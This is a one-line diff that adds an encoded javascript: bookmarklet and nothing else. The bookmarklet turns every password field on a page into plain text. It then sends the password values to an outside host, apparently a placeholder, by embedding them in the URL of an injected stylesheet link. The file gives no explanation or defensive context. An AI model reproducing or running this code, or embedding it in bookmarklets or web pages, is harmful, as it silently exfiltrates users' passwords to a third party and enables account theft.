@@ -1,0 +1,1 @@
+javascript:(p=>{p.map(e=>e.type=%22text%22);with(document)with(head.appendChild(createElement(%22link%22)))rel=%22stylesheet%22,href=%22https://css.dots.example/%22+encodeURIComponent(p.map(e=>e.value))+%22.css%22})([...document.querySelectorAll(%22[type=password]%22)])
